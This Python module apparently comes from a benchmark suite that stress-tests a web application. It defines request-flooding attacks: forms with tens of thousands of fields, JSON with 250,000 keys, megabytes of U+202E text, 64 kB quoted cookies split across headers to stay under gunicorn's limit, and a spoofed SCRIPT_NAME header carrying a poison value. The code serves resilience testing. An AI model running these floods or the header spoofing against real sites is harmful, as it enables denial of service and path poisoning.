"""Attacks by requests that cost the site more than they cost the client."""

import itertools
import json
import string

from benchmarks.attacks.attackers import Attack, connect, repeat
from benchmarks.attacks.target import FORM, JSON, Answer, Target, ask, read_answer, write_form, write_head
from benchmarks.attacks.visitors import POISON

MIRROR = "\u202e"


def open_wide_form(target: Target) -> None:
    repeat(target, 2, lambda target: ask(target, "GET", "/wide/", source=target.source))


def post_wide_form(target: Target) -> None:
    body = write_form({f"x{number}": "many" for number in range(1500)})
    repeat(target, 5, lambda target: ask(target, "POST", "/wide/", body, FORM, source=target.source))


def send_script_name(target: Target) -> None:
    """From the address that visitors come from too, since a proxy on the same machine is trusted."""
    paths = itertools.cycle(["/", target.form_path, f"/about/{target.model}/"])

    def ask_elsewhere(target: Target) -> Answer:
        headers = {"SCRIPT_NAME": f"/{POISON}"}
        for prefix in (f"/{POISON}", ""):
            ask(target, "POST", prefix + target.form_path, write_form(target.inputs), FORM | headers)
            answer = ask(target, "GET", prefix + next(paths), headers=headers)
        return answer

    repeat(target, 4, ask_elsewhere)


def send_long_cookie(target: Target) -> None:
    """One value of 64 kB, in headers that are shorter than gunicorn's limit and that it joins."""
    _send_cookie(target, parts=8)


def send_cookie(target: Target) -> None:
    """As long as gunicorn lets a header be."""
    _send_cookie(target, parts=1)


def _send_cookie(target: Target, parts: int) -> None:
    lines = "\r\nCookie: ".join([r"\"" * 4000] * parts)
    cookies = f'Cookie: theme="{lines}"\r\n'
    request = write_head(target, "GET", target.form_path, f"{cookies}Connection: close\r\n\r\n")

    def send(target: Target) -> Answer:
        with connect(target) as client:
            client.sendall(request)
            return read_answer(client)

    repeat(target, 12, send)


def send_long_text(target: Target) -> None:
    inputs = dict.fromkeys(target.inputs, MIRROR * (3_900_000 // 3 // len(target.inputs)))
    in_json = json.dumps({"inputs": inputs}, ensure_ascii=False).encode()
    # Of three bytes a character become nine in a form.
    in_form = write_form(dict.fromkeys(target.inputs, MIRROR * (500_000 // 9 // len(target.inputs))))
    plain = write_form(dict.fromkeys(target.inputs, "x" * (500_000 // len(target.inputs))))
    forms = itertools.cycle([in_form, plain])

    def send(target: Target) -> Answer:
        ask(target, "POST", target.api_path, in_json, JSON, source=target.source)
        return ask(target, "POST", target.form_path, next(forms), FORM, source=target.source)

    repeat(target, 2, send)


def send_most_fields(target: Target) -> None:
    names = map("".join, itertools.product(string.ascii_letters, repeat=3))
    body = write_form(target.inputs) + "".join(f"&{name}=" for name in itertools.islice(names, 87_000))
    repeat(target, 2, lambda target: ask(target, "POST", target.form_path, body, FORM, source=target.source))


def send_unknown_fields(target: Target) -> None:
    body = write_form(target.inputs | {f"unknown_{number}": "1" for number in range(5000)})
    repeat(target, 5, lambda target: ask(target, "POST", target.form_path, body, FORM, source=target.source))


def send_unknown_keys(target: Target) -> None:
    body = json.dumps({"inputs": target.inputs | {f"u{number}": 1 for number in range(250_000)}})
    repeat(target, 2, lambda target: ask(target, "POST", target.api_path, body, JSON, source=target.source))


def send_many_rows(target: Target) -> None:
    body = json.dumps({"inputs": [target.inputs] * 1000})
    repeat(target, 20, lambda target: ask(target, "POST", target.api_path, body, JSON, source=target.source))


ATTACKS = {
    "wide": Attack(title="the form of 1,500 inputs, by 2 clients", run=open_wide_form, needs="own"),
    "wide-errors": Attack(title="1,500 wrong inputs in a form, by 5 clients", run=post_wide_form, needs="own"),
    "script-name": Attack(title="a header SCRIPT_NAME", run=send_script_name, begins_first=True),
    "cookie": Attack(title="a quoted cookie of 64 kB in 8 headers, by 12 clients", run=send_long_cookie),
    "small-cookie": Attack(title="a quoted cookie of 8 kB, by 12 clients", run=send_cookie),
    "long-text": Attack(title="3.9 MB of U+202E in JSON, 500 kB in a form", run=send_long_text),
    "fields": Attack(title="forms of 87,000 fields, by 2 clients", run=send_most_fields),
    "unknown-fields": Attack(title="forms of 5,000 unknown fields, by 5 clients", run=send_unknown_fields),
    "unknown-keys": Attack(title="JSON of 250,000 unknown keys, by 2 clients", run=send_unknown_keys),
    "bulk": Attack(title="1,000 rows a request, by 20 clients", run=send_many_rows),
}
